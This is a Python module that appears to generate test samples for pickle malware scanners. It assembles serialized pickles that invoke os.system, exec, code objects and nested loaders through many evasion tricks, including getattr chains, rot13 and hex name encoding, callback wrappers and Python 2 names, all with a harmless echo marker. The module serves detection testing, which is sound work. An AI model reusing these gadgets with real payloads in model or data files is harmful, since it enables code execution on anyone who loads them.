"""Calls of names that nobody listed, and ways to reach a name without writing it (B1, B2, B3, B7, B8, B9, B16)."""

from __future__ import annotations

import marshal
import random
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any

import yaml

from . import opcodes as op
from .boxes import boxed, torch_legacy
from .opcodes import Raw, call, name
from .sample import TECHNIQUES, Sample, Technique, technique

ECHO = "echo assaymark"
_STYLES = ("reduce", "reduce", "reduce", "obj")


@cache
def callables() -> dict[str, tuple[list[Any], list[str]]]:
    """Read the table: what it does, with its arguments and names."""
    table = yaml.safe_load(Path(__file__).with_name("callables.yaml").read_text(encoding="utf-8"))
    return {kind: (row["arguments"], row["names"].split()) for kind, row in table.items()}


def module_of(dotted: str) -> str:
    """Say where the module's name ends: before the first capital or the last part."""
    parts = dotted.split(".")
    for number, part in enumerate(parts[1:], 1):
        if part[0].isupper() or part in ("cdll", "environ", "py_object", "pythonapi"):
            return ".".join(parts[:number])
    return ".".join(parts[:-1])


def _one(dotted: str, arguments: list[Any], rng: random.Random) -> bytes:
    """Assemble one call as one of the many pickles that make it."""
    module, protocol = module_of(dotted), rng.choice((0, 1, 2, 3, 4, 4, 5))
    nested = "." in dotted[len(module) + 1 :]
    if nested:
        protocol = max(protocol, 4)
    style = rng.choice(("stack", "stack long", "global", "stack line")) if protocol >= 4 else "global"
    how = op.LINE if protocol < 2 else op.BIN
    if rng.random() < 0.15 and not nested:
        expression = op.inst(module, dotted[len(module) + 1 :], *arguments)
    else:
        expression = call(name(dotted, style, module), *arguments, style=rng.choice(_STYLES), how=how)
    return op.stream(op.wrap(expression, rng), protocol, frame=rng.random() < 0.3)


def _table(kind: str) -> None:
    """List the technique that calls the names of one kind."""
    times = 2 if kind == "foreign" else 3

    def make(rng: random.Random) -> Iterator[Sample]:
        arguments, names = callables()[kind]
        for dotted in names:
            for _ in range(times):
                file, data = boxed(_one(dotted, arguments, rng), rng)
                yield Sample(file, data, unknown=kind == "foreign", note=dotted)

    TECHNIQUES.append(Technique("B16" if kind == "scanners" else "B1", f"call-{kind}", make))


for _kind in callables():
    _table(_kind)


def _spread(notes: dict[str, bytes], rng: random.Random, protocol: int = 4, **more: Any) -> Iterator[Sample]:
    """Wrap and box each expression twice."""
    for note, expression in notes.items():
        for _ in range(2):
            file, data = boxed(op.stream(op.wrap(expression, rng), protocol), rng)
            yield Sample(file, data, note=note, **more)


def _os() -> Raw:
    return Raw(call(name("importlib.import_module"), "os"))


SYSTEM = Raw(name("os.system", "stack"))


@technique("B2", "resolve")
def _resolve(rng: random.Random) -> Iterator[Sample]:
    found = {
        "pkgutil": call(call(name("pkgutil.resolve_name"), "os:system"), ECHO),
        "pydoc": call(call(name("pydoc.locate"), "os.system"), ECHO),
        "import and getattr": call(call(name("builtins.getattr"), _os(), "system"), ECHO),
        "attrgetter": call(call(call(name("operator.attrgetter"), "system"), _os()), ECHO),
        "methodcaller": call(call(name("operator.methodcaller"), "system", ECHO), _os()),
        "_operator": call(call(name("_operator.methodcaller"), "system", ECHO), _os()),
        "getattr_static": call(call(name("inspect.getattr_static"), _os(), "system"), ECHO),
        "reduce getattr": call(
            call(name("functools.reduce"), Raw(name("builtins.getattr")), ["system"], _os()), ECHO
        ),
        "attribute of attribute": call(
            call(call(name("operator.attrgetter"), "path.os.system"), _os()), ECHO
        ),
        "getattribute": call(
            call(name("builtins.object.__getattribute__", "stack", "builtins"), _os(), "system"), ECHO
        ),
        "sys.modules": call(
            call(
                name("builtins.getattr"),
                Raw(call(name("operator.getitem"), Raw(name("sys.modules")), "os")),
                "system",
            ),
            ECHO,
        ),
        "vars": call(
            call(
                name("operator.getitem"),
                Raw(call(name("builtins.vars"), Raw(name("os.path", "stack")))),
                "os",
            ),
            ECHO,
        ),
        "mro walk": call(
            name("operator.getitem"),
            Raw(
                call(name("builtins.type.__subclasses__", "stack", "builtins"), Raw(name("builtins.object")))
            ),
            100,
        ),
        "format walk": call(
            name("builtins.str.format", "stack", "builtins"),
            "{0.__init__.__globals__}",
            Raw(name("site._Printer")),
        ),
    }
    yield from _spread(found, rng)


@technique("B2", "apply")
def _apply(rng: random.Random) -> Iterator[Sample]:
    mapped = call(name("builtins.map"), SYSTEM, [ECHO])
    held = call(name("functools.partial"), SYSTEM, ECHO)
    found = {
        "partial": call(held),
        "partial by state": call(op.build(call(name("functools.partial"), Raw(name("builtins.int"))), (SYSTEM, (ECHO,), {}, None))),
        "list of map": call(name("builtins.list"), Raw(mapped)),
        "tuple of map by newobj": call(name("builtins.tuple"), Raw(mapped), style="newobj"),
        "bytes of map": call(name("builtins.bytes"), Raw(mapped), style="newobj"),
        "deque of map": call(name("collections.deque"), Raw(mapped)),
        "frozenset of map": call(name("builtins.frozenset"), Raw(mapped), style="obj"),
        "ordered dictionary of map": call(name("collections.OrderedDict"), Raw(mapped)),
        "reduce": call(name("functools.reduce"), SYSTEM, ["echo", "assaymark"]),
        "starmap": call(name("builtins.list"), Raw(call(name("itertools.starmap"), SYSTEM, [(ECHO,)]))),
        "filter": call(name("builtins.set"), Raw(call(name("builtins.filter"), SYSTEM, [ECHO]))),
        "iterator until": call(name("builtins.list"), Raw(call(name("builtins.iter"), Raw(held), 0))),
        "operator.call": call(name("operator.call"), SYSTEM, ECHO),
        "method type": call(call(name("types.MethodType"), SYSTEM, ECHO)),
        "default factory": call(name("operator.getitem"), Raw(call(name("collections.defaultdict"), Raw(held))), 1),
        "re.sub": call(name("re.sub"), "x", SYSTEM, "x"),
        "vectorize": call(call(name("numpy.vectorize"), SYSTEM), ECHO),
        "frompyfunc": call(call(name("numpy.frompyfunc"), SYSTEM, 1, 1), ECHO),
        "apply_along_axis": call(name("numpy.apply_along_axis"), SYSTEM, 0, [ECHO]),
        "fromfunction": call(name("numpy.fromfunction"), SYSTEM, (1,)),
        "tree_map": call(name("torch.utils._pytree.tree_map"), SYSTEM, [ECHO]),
        "series apply": call(name("pandas.Series.apply", "stack", "pandas"), Raw(call(name("pandas.Series"), [ECHO])), SYSTEM),
        "batched calls": call(call(name("joblib.parallel.BatchedCalls"), [(SYSTEM, (ECHO,), {})])),
        "atexit": call(name("atexit.register"), SYSTEM, ECHO),
        "timer": call(name("threading.Timer"), 0.1, SYSTEM, [ECHO]),
        "weak finalizer": call(name("weakref.finalize"), Raw(name("os.path", "stack")), SYSTEM, ECHO),
        "class with eq": call(name("builtins.type"), "X", (), {"__eq__": SYSTEM, "__hash__": SYSTEM}),
        "sorted by key": call(name("builtins.sorted"), [ECHO], style="obj") + op.POP + call(name("builtins.max"), [ECHO], SYSTEM),
        "exit stack": call(name("contextlib.ExitStack.callback", "stack", "contextlib"), Raw(call(name("contextlib.ExitStack"))), SYSTEM, ECHO),
    }  # fmt: skip
    yield from _spread(found, rng)


@technique("B2", "computed-name")
def _computed(rng: random.Random) -> Iterator[Sample]:
    def made(module: bytes, attribute: bytes) -> bytes:
        return call(module + attribute + op.STACK_GLOBAL, ECHO)

    system = op.text("system", op.SHORT)
    found = {
        "join": made(call(name("builtins.str.join", "stack", "builtins"), "", ["o", "s"]), system),
        "concat": made(call(name("operator.concat"), "o", "s"), system),
        "rot13": made(
            call(name("_codecs.decode"), "bf", "rot13"), call(name("codecs.decode"), "flfgrz", "rot13")
        ),
        "hex": made(call(name("_codecs.decode"), b"6f73", "hex"), system),
        "replace": made(call(name("builtins.str.replace", "stack", "builtins"), "oxs", "x", ""), system),
        "bytes decode": made(call(name("builtins.bytes.decode", "stack", "builtins"), b"os"), system),
        "str of bytes": made(call(name("builtins.str"), b"os", "ascii"), system),
        "encode of text": made(op.text("os"), call(name("_codecs.encode"), "flfgrz", "rot_13")),
        "format": made(call(name("operator.mod"), "o%s", "s"), system),
        "reversed": made(
            call(name("operator.getitem"), "so", Raw(call(name("builtins.slice"), None, None, -1))), system
        ),
        "path name": made(call(name("posixpath.basename"), "/x/os"), system),
        "string from dictionary": made(call(name("operator.getitem"), {"a": "os"}, "a"), system),
    }
    yield from _spread(found, rng)


@technique("B3", "dotted-attribute")
def _dotted(rng: random.Random) -> Iterator[Sample]:
    places = (
        "torch serialization.os.system", "torch hub.os.system", "pathlib os.system", "random _os.system",
        "tempfile _os.system", "logging os.system", "collections _sys.modules", "posixpath os.system",
        "posixpath genericpath.os.system", "shutil os.system", "numpy lib.npyio.os.system", "numpy ctypeslib.os.system",
        "builtins eval.__call__", "builtins exec.__call__", "builtins __import__.__call__", "joblib numpy_pickle.os.system",
        "pandas io.common.os.system", "sklearn utils._testing.os.system", "sklearn datasets._base.os.system",
        "dataclasses builtins.exec", "dataclasses sys.modules", "copy sys.modules.get", "inspect os.popen",
        "functools reduce.__self__.__import__", "uuid os.system", "zipfile os.system", "torch._utils torch.os.system",
        "torch.nn.modules.module torch.serialization.os.system", "transformers utils.hub.os.system",
        "xgboost core.os.system", "lightgbm basic.subprocess.run", "scipy io._fortran.os.system", "json codecs.open",
        "collections.abc sys.modules", "decimal _sys.modules", "datetime sys.modules", "_codecs __loader__.load_module",
        "numpy.core.multiarray __loader__.exec_module", "collections OrderedDict.fromkeys.__self__.__init__",
        "argparse _os.system", "warnings sys.modules", "types sys.modules", "numpy.lib.format pickle.loads",
    )  # fmt: skip
    for place in places:
        module, _, attribute = place.partition(" ")
        argument: Any = ECHO if "modules" not in attribute else "os"
        for style in ("global", "stack"):
            target = name(f"{module}.{attribute}", style, module)
            body = call(target, argument) if not attribute.endswith("modules") else op.wrap(target, rng)
            file, data = boxed(op.stream(body, 4), rng)
            yield Sample(file, data, note=place)


def _code() -> bytes:
    """Machine code of a harmless print, only written, never run."""
    return marshal.dumps(compile("print('assaymark')", "m", "exec"))


@technique("B7", "code-object")
def _code_object(rng: random.Random) -> Iterator[Sample]:
    loaded = Raw(call(name("marshal.loads"), _code()))
    made = Raw(
        call(
            name("types.CodeType"),
            0,
            0,
            0,
            0,
            1,
            64,
            b"d\x00S\x00",
            (None,),
            (),
            (),
            "m",
            "f",
            "f",
            1,
            b"",
            b"",
        )
    )
    found = {
        "marshal and function": call(call(name("types.FunctionType"), loaded, {})),
        "code and function": call(call(name("types.FunctionType"), made, {})),
        "function alone": call(name("types.FunctionType"), made, {}),
        "lambda type": call(call(name("types.LambdaType"), loaded, {})),
        "exec of code": call(name("builtins.exec"), loaded),
        "type of function": call(call(call(name("builtins.type"), Raw(name("copy.copy"))), loaded, {})),
        "cloudpickle": call(call(name("cloudpickle.cloudpickle._make_function"), loaded, {}, "f", (), ())),
        "cloudpickle builtin type": call(call(name("cloudpickle.cloudpickle._builtin_type"), "CodeType"), b"x"),
        "joblib's cloudpickle": call(name("joblib.externals.cloudpickle.cloudpickle._make_function"), loaded, {}, "f", (), ()),
        "dill": call(call(name("dill._dill._create_function"), loaded, {"__builtins__": {}})),
        "dill code": call(name("dill._dill._create_code"), b"", 0, 0, 0, 0),
        "dill type": call(call(name("dill._dill._load_type"), "FunctionType"), loaded, {}),
        "dill eval": call(name("dill._dill._eval_repr"), "print(1)"),
        "code by methodcaller": call(call(name("operator.methodcaller"), "__getattribute__", "__code__"), Raw(name("copy.copy"))),
        "replace code": call(call(name("operator.methodcaller"), "replace", 1), made),
    }  # fmt: skip
    yield from _spread(found, rng)


@technique("B8", "nested-loader")
def _nested(rng: random.Random) -> Iterator[Sample]:
    inner = op.stream(call(name("os.system"), ECHO), 4)
    file = Raw(call(name("io.BytesIO"), inner))
    torch_inner = torch_legacy(op.stream(call(name("posix.system"), ECHO), 2))
    names = (
        "pickle.loads", "_pickle.loads", "pickle._loads", "dill.loads", "dill._dill.loads", "cloudpickle.loads",
        "joblib.externals.cloudpickle.loads", "multiprocessing.reduction.ForkingPickler.loads", "marshal.loads",
        "jsonpickle.decode", "yaml.unsafe_load", "ray.cloudpickle.loads", "torch._utils_internal.loads",
        "pandas.compat.pickle_compat.loads", "numpy.core.multiarray.loads", "skops.io.loads", "shelve.loads",
    )  # fmt: skip
    found = {n: call(name(n, "stack", module_of(n)), inner) for n in names}
    for n in ("pickle.load", "torch.load", "numpy.load", "joblib.load", "pandas.read_pickle", "torch.jit.load",
              "numpy.lib.format.read_array", "pandas.compat.pickle_compat.load"):  # fmt: skip
        found[n] = call(name(n), file)
    found["unpickler"] = call(
        call(name("operator.methodcaller"), "load"), Raw(call(name("pickle.Unpickler"), file))
    )
    found["storage"] = call(name("torch.storage._load_from_bytes"), torch_inner)
    found["storage of plain pickle"] = call(name("torch.storage._load_from_bytes"), inner)
    found["keras"] = call(name("keras.src.saving.saving_lib.load_model"), "/tmp/assaymark.keras")
    found["twice"] = call(name("pickle.loads"), op.stream(call(name("pickle.loads"), inner), 3))
    yield from _spread(found, rng)


@technique("B8", "storage-with-payload")
def _storage(rng: random.Random) -> Iterator[Sample]:
    """A loader that honest files use, whose bytes hold the payload only; in the second form behind what it reads."""
    for number, box in enumerate(
        (torch_legacy, lambda p: torch_legacy(op.stream(op.value({}), 2)) + p, lambda p: p)
    ):
        inner = box(op.stream(op.wrap(call(name("os.system"), ECHO), rng), 2))
        file, data = boxed(
            op.stream(op.value({"w": Raw(call(name("torch.storage._load_from_bytes"), inner))}), 4), rng
        )
        yield Sample(file, data, "hidden" if number == 1 else "malicious", note=f"form {number}")


@technique("B9", "python-2-names")
def _python2(rng: random.Random) -> Iterator[Sample]:
    names = (
        "commands.getoutput", "commands.getstatusoutput", "commands.run", "__builtin__.eval", "__builtin__.execfile",
        "__builtin__.apply", "__builtin__.__import__", "__builtin__.getattr", "__builtin__.file", "__builtin__.open",
        "__builtin__.reduce", "__builtin__.reload", "cPickle.loads", "urllib.urlopen", "urllib.urlretrieve",
        "urllib2.urlopen", "httplib.HTTPConnection", "SocketServer.TCPServer", "xmlrpclib.ServerProxy",
        "thread.start_new_thread", "popen2.popen3", "os.popen2", "os.popen3", "imp.load_source", "new.function",
        "anydbm.open", "dumbdbm.open", "whichdb.whichdb", "BaseHTTPServer.HTTPServer", "itertools.imap",
        "itertools.ifilter", "tkFileDialog.askopenfile", "copy_reg.add_extension", "_multiprocessing.Connection",
        "dummy_thread.start_new_thread", "__builtin__.intern", "exceptions.OSError.__subclasses__",
    )  # fmt: skip
    for dotted in names:
        for protocol in (0, 2):
            module, _, attribute = dotted.partition(".")
            target = b"c" + module.encode() + b"\n" + attribute.encode() + b"\n"
            body = call(target, ECHO, how=op.LINE)
            file, data = boxed(op.stream(op.wrap(body, rng) if protocol else body, protocol), rng)
            yield Sample(file, data, unknown="exceptions" in dotted, note=f"{dotted} protocol {protocol}")
